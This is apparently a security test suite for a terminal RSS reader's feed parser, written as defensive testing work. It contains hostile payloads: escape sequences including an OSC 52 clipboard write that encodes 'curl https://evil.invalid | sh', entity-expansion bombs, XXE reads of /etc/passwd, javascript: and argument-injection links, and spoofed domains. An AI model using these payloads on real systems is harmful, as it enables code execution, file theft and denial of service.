"""Hostile RSS/Atom documents through the real parser (feeds/parse.py + htmltext.py).

Whatever the feed does, parse_feed returns (or refuses with a FeedError) and every field of the
result is terminal-safe, bounded, and carries only http(s) links.  Sizes are asserted, never
timings.
"""

from __future__ import annotations

import pytest
from secutil import ESCAPES, assert_parsed_feed_safe

from briefing_tui.errors import FeedError
from briefing_tui.feeds.parse import parse_feed
from briefing_tui.sanitize import MAX_BODY, MAX_TITLE

RSS_HEADERS = {"content-type": "application/rss+xml"}
URL = "https://feeds.example/feed.xml"


def rss(items: str, *, title: str = "Feed", head: str = "", extra: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{head}'
        f'<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        f"<title>{title}</title><link>https://site.example/</link>{extra}{items}"
        f"</channel></rss>"
    ).encode("utf-8", "surrogateescape")


def item(
    title: str = "t", body: str = "b", *, link: str = "https://site.example/a", extra=""
) -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link><guid>g-{abs(hash(title))}</guid>"
        f"<description>{body}</description>{extra}</item>"
    )


def parse(body: bytes, headers: dict[str, str] | None = None):
    pf = parse_feed(body, RSS_HEADERS if headers is None else headers, URL)
    assert_parsed_feed_safe(pf)
    return pf


def raw_feedparser_expands(body: bytes, headers: dict[str, str]) -> bool:
    """Whether feedparser on its own expands entity 'a' (proves a payload is a real attack)."""
    import io

    import feedparser

    raw = feedparser.parse(io.BytesIO(body), response_headers=headers)
    return bool(raw.entries) and "A" * 1_000 in raw.entries[0].get("summary", "")


# -- control characters, in every encoding a feed can use ---------------------------------


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_raw_escape_sequences_everywhere(name):
    seq = ESCAPES[name]
    body = rss(
        item(f"T {seq} end", f"B {seq} end", extra=f"<author>a{seq}@x (A{seq})</author>"),
        title=f"Feed {seq}",
    )
    pf = parse(body)
    assert len(pf.entries) == 1 and pf.entries[0].title.endswith("end")


@pytest.mark.parametrize(
    "ref", ["&#27;", "&#x1b;", "&#X1B;", "&#155;", "&#x9b;", "&#0;", "&#7;", "&#8;", "&#13;"]
)
def test_numeric_references_to_controls(ref):
    pf = parse(rss(item(f"A{ref}[2JB", f"x{ref}]52;c;aWQ={ref}\\y"), title=f"F{ref}[2J"))
    assert pf.entries[0].title.startswith("A") and "[2J" in pf.entries[0].title


@pytest.mark.parametrize("ref", ["&amp;#27;", "&amp;#x1b;", "&amp;#155;", "&amp;amp;#27;"])
def test_escaped_references_in_escaped_html(ref):
    # An RSS description is escaped HTML: XML decoding gives HTML, HTML decoding gives text.
    # '&amp;#27;' is therefore a real ESC (dropped); '&amp;amp;#27;' is the visible text
    # '&#27;', which nothing may decode a third time.
    pf = parse(rss(item(f"A{ref}[2J", f"&lt;p&gt;x{ref}[2J&lt;/p&gt;")))
    entry = pf.entries[0]
    assert entry.body.startswith("x") and entry.body.endswith("[2J")
    if "amp;amp;" in ref:
        assert "&#27;" in entry.body


def test_cdata_html_with_escapes_entities_and_osc52():
    osc = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuaW52YWxpZCB8IHNo\x07"
    html = (
        f"<p>intro {osc} &#27;[2J &#x9b;31m &amp;#27;]8;;x</p><p>{ESCAPES['OSC 8 fake link']}</p>"
    )
    pf = parse(rss(item("cdata", f"<![CDATA[{html}]]>")))
    assert pf.entries[0].body.startswith("intro")


def test_atom_html_and_xhtml_content_with_escapes():
    atom = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">&lt;b&gt;F&amp;#27;[2J&lt;/b&gt;</title>
<id>urn:x</id><updated>2024-01-01T00:00:00Z</updated>
<author><name>\x1b]52;c;aWQ=\x07Mallory &#27;[8m</name></author>
<entry><id>urn:1</id><title type="html">&amp;#27;]0;pwned&amp;#7;T</title>
<updated>2024-01-01T00:00:00Z</updated>
<author><name>\x9d52;c;aWQ=\x9cEve</name><email>e@x</email></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">x&#27;[2J<b>\x1b[5m</b></div></content>
</entry></feed>"""
    pf = parse(atom.encode(), {"content-type": "application/atom+xml"})
    assert pf.entries[0].title.endswith("T")


def test_invalid_utf8_and_truncated_sequences():
    bad = [b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc", b"\xed\xa0\x80"]
    bad += [b"\xf8\xa1\xa1\xa1\xa1", b"\xc0\xaf", b"\xf4\x90\x80\x80", b"\xe9"]
    body = rss(item("TITLE", "BODY")).replace(b"TITLE", b"T " + b" ".join(bad))
    pf = parse(body + b"\xe2\x82")  # plus a sequence truncated at EOF
    assert len(pf.entries) == 1 and pf.entries[0].title.startswith("T")


def test_utf16_bom_with_utf8_declared():
    doc = rss(item("héllo", "wörld")).decode()
    pf = parse(b"\xff\xfe" + doc.encode("utf-16-le"))
    assert pf.entries[0].title == "héllo"


def test_markup_strings_survive_literally():
    marks = ["[/bold]", "[link=https://evil.invalid]y[/link]", "[@click=app.quit]x[/]", ":skull:"]
    pf = parse(rss("".join(item(m, f"body {m}") for m in marks), title="[reverse blink]F"))
    assert [e.title for e in pf.entries] == marks
    assert pf.title == "[reverse blink]F"


def test_bidi_and_invisible_characters_are_gone():
    pf = parse(rss(item("if\u202e txt.exe\u2066 \u200bok\U000e0041", "a\u2028b\u2029c\u00adz")))
    assert pf.entries[0].title == "if txt.exe ok"
    assert pf.entries[0].body == "a b cz"  # in HTML, U+2028/2029 are just whitespace


# -- entities and DTDs -----------------------------------------------------------------


def test_billion_laughs_is_not_expanded():
    ents = '<!ENTITY lol "lol">\n' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">\n' for i in range(1, 10)
    )
    pf = parse(rss(item("&lol9;", "&lol9;"), head=f"<!DOCTYPE rss [\n{ents}]>\n"))
    assert sum(len(e.body) + len(e.title) for e in pf.entries) < 1_000


def test_entities_on_the_doctype_line_are_not_expanded():
    head = '<!DOCTYPE rss [<!ENTITY a "AAAAAAAAAA"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    pf = parse(rss(item("&b;&b;&b;", "&b;" * 1000), head=head + "\n"))
    assert "AAAAAAAAAA" not in pf.entries[0].body


def test_quadratic_blowup_is_bounded():
    # one plain 20 kB entity referenced 2,000 times: 40 MB if anything expands it
    head = f'<!DOCTYPE rss [\n<!ENTITY a "{"A" * 20_000}">\n]>\n'
    try:
        pf = parse(rss(item("&a;" * 50, "&a;" * 2_000), title="&a;&a;", head=head))
    except FeedError:
        return  # refusing the document is a fine defence too
    assert "A" * 1_000 not in pf.entries[0].body
    assert len(pf.entries[0].body) <= MAX_BODY and len(pf.title) <= MAX_TITLE


_BLOWUP = '<!DOCTYPE rss [\n<!ENTITY a "{}">\n]>\n'.format("A" * 2_000)
_DOC = _BLOWUP + '<rss version="2.0"><channel><title>t</title><item><title>x</title>'
_DOC += "<description>" + "&a;" * 200 + "</description></item></channel></rss>"


def _utf7(text: str) -> bytes:
    return text.replace("<!", "+ADwAIQ-").encode("ascii")  # '<!' base64-encoded in UTF-7


NON_ASCII_COMPATIBLE = {
    "utf-7 declared in the document": (
        b"<?xml version='1.0' encoding='utf-7'?>\n" + _utf7(_DOC),
        {"content-type": "application/rss+xml"},
    ),
    "EBCDIC sniffed from the document": (
        ("<?xml version='1.0' encoding='cp037'?>\n" + _DOC).encode("cp037"),
        {"content-type": "application/rss+xml"},
    ),
    "utf-7 from the HTTP charset": (
        _utf7(_DOC),
        {"content-type": "application/rss+xml; charset=utf-7"},
    ),
    "EBCDIC cp500 from the HTTP charset": (
        _DOC.encode("cp500"),
        {"content-type": "application/xml; charset=cp500"},
    ),
    "utf-16le without BOM from the HTTP charset": (
        _DOC.encode("utf-16-le"),
        {"content-type": "application/rss+xml; charset=utf-16le"},
    ),
    "utf-32be without BOM from the HTTP charset": (
        _DOC.encode("utf-32-be"),
        {"content-type": "text/xml; charset=utf-32be"},
    ),
}


@pytest.mark.parametrize("name", sorted(NON_ASCII_COMPATIBLE))
def test_entity_blowup_in_non_ascii_compatible_encodings(name):
    # The DOCTYPE must be found in the text feedparser will parse, not in the raw bytes: in
    # these encodings '<!ENTITY' is not ASCII, and feedparser's fallback expands it.
    body, headers = NON_ASCII_COMPATIBLE[name]
    assert raw_feedparser_expands(body, headers)
    try:
        pf = parse(body, headers)
    except FeedError:
        return
    assert "A" * 1_000 not in pf.entries[0].body, "entity expanded"


PROLOG_DECOYS = [
    "<!-- <rss> -->\n",
    '<!--<rss version="2.0">-->\n',
    '<?xml version="1.0"?>\n<!-- <a -->\n',
    "<?pi <rss?>\n",
]


@pytest.mark.parametrize("decoy", PROLOG_DECOYS)
def test_doctype_after_a_comment_that_looks_like_the_root_is_still_stripped(decoy):
    # unstripped, expat expands it itself (~100x the input: 900 kB became a 60 MB body)
    body = (decoy + _DOC).encode()
    assert raw_feedparser_expands(body, RSS_HEADERS)
    try:
        pf = parse(body)
    except FeedError:
        return
    assert "A" * 1_000 not in pf.entries[0].body, "entity expanded"


_ENT = '<!ENTITY a "{}">'.format("A" * 2_000)
_ITEM = '<rss version="2.0"><channel><title>t</title><item><title>x</title><description>'
_ITEM += "&a;" * 200 + "</description></item></channel></rss>"
TRICKY_DOCTYPES = {
    "PI hiding -->": f"<?pi --> <rss ?>\n<!DOCTYPE rss [\n{_ENT}\n]>\n",
    "comment hiding ?>": f"<!-- ?> <rss> -->\n<!DOCTYPE rss [\n{_ENT}\n]>\n",
    "comment with ]> in the subset": f"<!DOCTYPE rss [\n<!-- ]> -->\n{_ENT}\n]>\n",
    "PI with ]> in the subset": f"<!DOCTYPE rss [\n<?p ]> ?>\n{_ENT}\n]>\n",
    "entity value holding ]>": f'<!DOCTYPE rss [\n<!ENTITY z "]>">\n{_ENT}\n]>\n',
    "system id holding [ and >": f'<!DOCTYPE rss PUBLIC "-//x//" "y[>z" [\n{_ENT}\n]>\n',
}


@pytest.mark.parametrize("name", sorted(TRICKY_DOCTYPES))
def test_tricky_doctype_shapes_are_stripped(name):
    doc = (TRICKY_DOCTYPES[name] + _ITEM).encode()
    assert raw_feedparser_expands(doc, RSS_HEADERS)
    try:
        pf = parse(doc)
    except FeedError:
        return
    assert "A" * 1_000 not in pf.entries[0].body, "entity expanded"


def test_external_entities_and_dtds_are_never_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-MARKER")
    head = (
        "<!DOCTYPE rss [\n"
        f'<!ENTITY f SYSTEM "file://{secret}">\n'
        '<!ENTITY p SYSTEM "file:///etc/passwd">\n'
        f'<!ENTITY % d SYSTEM "file://{secret}">\n%d;\n]>\n'
    )
    for doc in (
        rss(item("&f;&p;", "&f; &p;"), title="&f;", head=head),
        rss(item("x", "y"), head=f'<!DOCTYPE rss SYSTEM "file://{secret}">\n'),
    ):
        try:
            pf = parse(doc)
        except FeedError:
            continue
        blob = repr(pf)
        assert "TOPSECRET" not in blob and "root:" not in blob


def test_body_that_is_a_local_path_is_data_not_a_file(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_bytes(rss(item("LOCAL-FILE-TITLE", "x")))
    with pytest.raises(FeedError):
        parse_feed(str(path).encode(), RSS_HEADERS, URL)


# -- links ------------------------------------------------------------------------------

HOSTILE_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "javascript&#x3a;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "file:///etc/passwd",
    "smb://evil.invalid/s",
    "//evil.invalid/x",
    "--help",
    "-oProxyCommand=id",
    "https://bank.example@evil.invalid/",
    "https://x.example/a&#10;b",
]


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_entry_links_outside_http_are_dropped(link):
    body = f'&lt;a href="{link}"&gt;click&lt;/a&gt; &lt;img src="{link}" onerror="x"&gt;'
    pf = parse(rss(item("t", body, link=link)))
    entry = pf.entries[0]
    # '' or an http(s) URL; relative ones ('--help', '//host/x') resolve against the feed URL
    assert entry.link == "" or entry.link.startswith(("https://", "http://"))
    for text in (entry.link, entry.body):
        assert "javascript" not in text.lower() and "file:" not in text
        assert "\n" not in entry.link and not entry.link.startswith("-")
    assert "@" not in entry.link  # userinfo tricks are refused, not opened


def test_xml_base_file_cannot_make_file_links():
    atom = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="file:///etc/"><title>F</title><id>urn:f</id>
<link href="hosts"/><updated>2024-01-01T00:00:00Z</updated>
<entry xml:base="javascript:alert(1)//"><id>urn:1</id><title>t</title><link href="passwd"/>
<updated>2024-01-01T00:00:00Z</updated>
<content type="html" xml:base="file:///etc/">&lt;a href="shadow"&gt;s&lt;/a&gt;</content></entry>
</feed>"""
    pf = parse(atom.encode(), {"content-type": "application/atom+xml"})
    entry = pf.entries[0]
    assert entry.link == "" and "file:" not in entry.body and "javascript" not in entry.body
    assert pf.site_url == ""


def test_html_links_show_their_real_target():
    html = '&lt;a href="https://evil.invalid/"&gt;https://bank.example/&lt;/a&gt;'
    pf = parse(rss(item("t", html)))
    assert "<https://evil.invalid/>" in pf.entries[0].body


# -- size and shape ---------------------------------------------------------------------


def test_five_thousand_nested_divs():
    html = "<div>" * 5_000 + "deep" + "</div>" * 5_000
    pf = parse(rss(item("nest", f"<![CDATA[{html}]]>")))
    assert "deep" in pf.entries[0].body


def test_nested_inline_and_unclosed_tables():
    html = "<b><i>" * 4_000 + "bi" + "<table><tr><td>" * 3_000 + "cell"
    pf = parse(rss(item("nest", f"<![CDATA[{html}]]>")))
    assert "bi" in pf.entries[0].body and "cell" in pf.entries[0].body


def test_deeply_nested_xml_elements():
    pf = parse(rss(item("x", "<x>" * 20_000 + "</x>" * 20_000)))
    assert len(pf.entries) == 1


def test_ten_thousand_items():
    items = "".join(f"<item><title>\x1b[2J{i}\x9b</title></item>" for i in range(10_000))
    pf = parse(rss(items))
    assert len(pf.entries) == 10_000 and pf.entries[-1].title.startswith("[2J9999")


def test_one_megabyte_title_and_body():
    pf = parse(rss(item("T" * 1_000_000, "B" * 1_100_000), title="F" * 1_000_000))
    assert len(pf.title) == MAX_TITLE and len(pf.entries[0].title) == MAX_TITLE
    assert len(pf.entries[0].body) <= MAX_BODY


def test_huge_guid_and_nul_in_guid():
    items = item("a", "x").replace("<guid>g-", "<guid>" + "G" * 1_000_000)
    items += item("b", "y").replace("<guid>g-", "<guid>n\x00ul")
    pf = parse(rss(items))
    assert len(pf.entries) == 2


BAD_DATES = [
    "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:60Z",
    "10000-01-01T00:00:00Z",
    "-0001-01-01T00:00:00Z",
    "Sex, 25 Dez 2020 25:61:61 +9999",
    "Thu, 01 Jan 1970 00:00:00 +2500",
    "2024-W99",
    "1e309",
    "-1",
    "now",
    "2023-02-30T00:00:00Z",
    "2024-01-01T24:00:00Z",
    "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0661",
    "9" * 5_000,
    "",
    "Fri, 31 Dec 99999 23:59:59 GMT",
]


def test_out_of_range_dates_never_crash():
    items = "".join(
        item(f"d{i}", "x", extra=f"<pubDate>{d}</pubDate><dc:date>{d}</dc:date>")
        for i, d in enumerate(BAD_DATES)
    )
    pf = parse(rss(items))
    assert len(pf.entries) == len(BAD_DATES)
    stamps = [e.published for e in pf.entries]
    # sortable whatever came back: None-safe key gives a deterministic order
    assert sorted(stamps, key=lambda d: (d is None, d)) == sorted(
        reversed(stamps), key=lambda d: (d is None, d)
    )


def test_body_links_show_lookalike_hosts_in_their_ascii_form():
    # the UI makes body links clickable: their visible target must not pass for apple.com
    lookalike = "https://\u0430\u0440\u0440\u04cf\u0435.com/login"
    pf = parse(rss(item("t", f'&lt;a href="{lookalike}"&gt;Apple&lt;/a&gt;')))
    assert "<https://xn--80ak6aa92e.com/login>" in pf.entries[0].body
